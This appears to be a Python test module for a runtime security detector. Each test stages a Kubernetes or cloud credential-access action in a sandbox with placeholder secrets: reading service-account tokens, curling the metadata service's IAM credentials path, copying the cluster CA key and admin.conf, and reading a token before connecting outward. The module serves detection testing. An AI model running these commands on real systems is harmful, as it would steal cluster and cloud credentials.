# SPDX-License-Identifier: Apache-2.0
"""Credentials of the cluster and of its cloud: tokens, keys of Kubernetes, the metadata service."""

from pathlib import Path

from support.box import Box

from default_rules import trigger
from default_rules.credential_access import SECRET, application

TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"
# Nobody's: what it says is not signed by anyone.
BEARER = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJl"


@trigger("service-account-token-read-by-tool")
def cat_token(box: Box) -> None:
    box.put(TOKEN, BEARER)
    box.sh(f"cat {TOKEN}", check=True)


@trigger("service-account-token-read-by-tool")
def shell_alone(box: Box) -> None:
    # As the kubelet lays it: the name is a link through another.
    folder = str(Path(TOKEN).parent)
    box.put(f"{folder}/..2026_11_21/token", BEARER)
    box.sh(f"ln -s ..2026_11_21 {folder}/..data && ln -s ..data/token {TOKEN}", check=True)
    box.sh(f"read token <{TOKEN}; echo $token", shell="/bin/bash")


@trigger("service-account-token-read-by-child")
def worker(box: Box) -> None:
    box.put(TOKEN, BEARER)
    box.run(["/usr/bin/timeout", "5", *application(box, f"open('{TOKEN}').read()")], check=True)


@trigger("metadata-service-by-tool", internet=True)
def curl(box: Box) -> None:
    box.sh("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")


@trigger("metadata-service-contacted", internet=True)
def library(box: Box) -> None:
    box.run(application(box, "socket.socket().connect_ex(('169.254.170.2', 80))"), check=True)


@trigger("metadata-service-contacted", internet=True)
def library_ipv6(box: Box) -> None:
    box.run(application(box, "socket.socket(socket.AF_INET6).connect_ex(('fd00:ec2::254', 80))"), check=True)


@trigger("kubernetes-keys-read")
def authority(box: Box) -> None:
    box.put("/host/etc/kubernetes/pki/ca.key", SECRET)
    box.sh("cat /host/etc/kubernetes/pki/ca.key", check=True)


@trigger("kubernetes-keys-read")
def admin(box: Box) -> None:
    box.put("/etc/kubernetes/admin.conf", SECRET)
    box.sh("cp /etc/kubernetes/admin.conf /srv/", check=True)


@trigger("volumes-of-pods-read")
def another_pods_token(box: Box) -> None:
    path = "/host/var/lib/kubelet/pods/4b1c/volumes/kubernetes.io~projected/kube-api-access-x/token"
    box.put(path, SECRET)
    box.sh(f"cat {path}", check=True)


@trigger("token-on-command-line")
def header(box: Box) -> None:
    box.run(["curl", "-sk", "-H", f"Authorization: Bearer {BEARER}", "https://127.0.0.1:1/api"])


@trigger("service-account-token-then-tool", internet=True)
def read_then_sent(box: Box) -> None:
    box.put(TOKEN, BEARER)
    box.run(application(box, f"open('{TOKEN}').read()"), check=True)
    box.sh("curl -sk https://10.96.0.1/api")


@trigger("service-account-token-then-internet", internet=True)
def read_and_sent_outside(box: Box) -> None:
    box.put(TOKEN, BEARER)
    box.run(application(box, f"open('{TOKEN}').read()\nsocket.socket().connect_ex(('203.0.113.9', 443))"), check=True)
